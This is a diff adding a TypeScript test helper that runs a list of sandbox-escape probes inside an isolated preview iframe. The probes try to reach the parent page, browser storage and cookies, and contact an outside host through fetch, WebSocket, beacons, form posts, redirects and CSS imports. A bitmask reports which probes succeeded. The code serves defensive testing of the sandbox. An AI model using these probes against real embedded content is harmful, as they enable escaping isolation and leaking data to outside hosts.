@@ -1,0 +1,91 @@
+import { makeFrameDocument } from '../../src/outputs/preview/frame/frame-document.ts';
+
+/** What HTML in a frame apart must not be able to do; each throws where it is kept from it. */
+export function listAttacks(outsideUrl: string): Readonly<Record<string, string>> {
+  const imageAt = (url: string) =>
+    `await new Promise((yes, no) => { const image = new Image(); image.onload = yes; image.onerror = no; image.src = "${url}"; })`;
+  return {
+    'the page': 'top.document.title = "taken"',
+    'the file that holds the frame': 'parent.document.title = "taken"',
+    'local storage': 'localStorage.setItem("a", "b")',
+    cookies: 'document.cookie = "a=b"; if (!document.cookie) throw 1',
+    databases:
+      'await new Promise((yes, no) => { const r = indexedDB.open("cahier"); r.onsuccess = yes; r.onerror = no; })',
+    caches: 'await caches.keys()',
+    'private files': 'await navigator.storage.getDirectory()',
+    locks: 'await navigator.locks.query()',
+    'service workers': 'await navigator.serviceWorker.getRegistrations()',
+    'another host by fetch': `await fetch("${outsideUrl}/fetch", { mode: "no-cors" })`,
+    'another host by an image': imageAt(`${outsideUrl}/image`),
+    'the own host by a path': 'await fetch("/index.html")',
+    'another host by a request that blocks': `const x = new XMLHttpRequest(); x.open("GET", "${outsideUrl}/xhr", false); x.send()`,
+    'another host by a socket': `await new Promise((yes, no) => { const s = new WebSocket("${outsideUrl.replace('http', 'ws')}/socket"); s.onopen = yes; s.onerror = no; })`,
+    'another host by events': `await new Promise((yes, no) => { const s = new EventSource("${outsideUrl}/events"); s.onopen = yes; s.onerror = no; })`,
+    'another host by a script': `await import("${outsideUrl}/script.js")`,
+    'another host from a worker': `await new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('${outsideUrl}/worker', { mode: 'no-cors' }).then(() => postMessage(1), () => postMessage(0))"]))); w.onmessage = (e) => e.data ? yes() : no(); w.onerror = no; })`,
+    'a window': `if (open("${outsideUrl}/window") === null) throw 1`,
+    peers: 'new RTCPeerConnection()',
+  };
+}
+
+/** Ways to ask another host that tell nothing of how it went. */
+export function listWaysOut(outsideUrl: string): readonly string[] {
+  return [
+    `<script>navigator.sendBeacon("${outsideUrl}/beacon", "x")</script>`,
+    `<link rel="stylesheet" href="${outsideUrl}/style"><link rel="prefetch" href="${outsideUrl}/prefetch"><link rel="preconnect" href="${outsideUrl}">`,
+    `<style>@import "${outsideUrl}/import"; body { background: url("${outsideUrl}/background") }</style>`,
+    `<iframe src="${outsideUrl}/frame"></iframe><object data="${outsideUrl}/object"></object><video src="${outsideUrl}/video"></video>`,
+    `<meta http-equiv="refresh" content="0; url=${outsideUrl}/refresh">`,
+    `<form action="${outsideUrl}/form" method="post"><input name="a" value="b"></form><script>document.forms[0].submit()</script>`,
+    `<a href="${outsideUrl}/link" ping="${outsideUrl}/ping">x</a><script>document.querySelector("a").click()</script>`,
+    `<script>location = "${outsideUrl}/location"</script>`,
+    `<script>try { top.location = "${outsideUrl}/top" } catch {}</script>`,
+    `<script>try { parent.location = "${outsideUrl}/parent" } catch {}</script>`,
+    `<base href="${outsideUrl}/"><img src="relative">`,
+  ];
+}
+
+/** HTML that tries all attacks, and tells by its height, beyond 100,000, which of them were no failure: one bit each. */
+export function makeAttackingHtml(outsideUrl: string): string {
+  const attacks = Object.values(listAttacks(outsideUrl)).map((attack) => `async () => { ${attack} }`);
+  return makeFrameDocument(`<script>
+    (async () => {
+      let succeeded = 0;
+      for (const [index, attack] of [${attacks.join(',\n')}].entries()) {
+        const ended = await Promise.race([attack().then(() => true, () => false), new Promise((done) => setTimeout(done, 1500, false))]);
+        if (ended) succeeded += 2 ** index;
+      }
+      parent.postMessage({ cahierHeight: 100000 + succeeded }, "*");
+    })();
+  </script>`);
+}
+
+/**
+ * Runs in the page, and sees nothing else: puts HTML into a frame apart and collects the heights that it tells, until one is
+ * beyond 100,000 or the time in milliseconds is over.
+ */
+export async function showApart(html: string, milliseconds: string): Promise<number[]> {
+  const frame = document.createElement('iframe');
+  const heights: number[] = [];
+  frame.src = new URL('frames/apart.html', document.baseURI).href;
+  await new Promise<void>((done) => {
+    addEventListener('message', ({ source, origin, data }) => {
+      if (source === null || source !== frame.contentWindow || origin !== location.origin) return;
+      if (data.type === 'frame-ready')
+        source.postMessage({ type: 'show', html, title: 'Attack' }, { targetOrigin: origin });
+      if (data.type === 'frame-sized') heights.push(data.height);
+      if (data.type === 'frame-sized' && data.height >= 100_000) done();
+    });
+    document.body.append(frame);
+    setTimeout(done, Number(milliseconds));
+  });
+  frame.remove();
+  return heights;
+}
+
+/** The names of the attacks that were no failure, as told by the heights; null where nothing was told. */
+export function listSuccesses(heights: readonly number[], outsideUrl: string): string[] | null {
+  const told = heights.at(-1) ?? 0;
+  if (told < 100_000) return null;
+  return Object.keys(listAttacks(outsideUrl)).filter((_, index) => ((told - 100_000) & (2 ** index)) !== 0);
+}
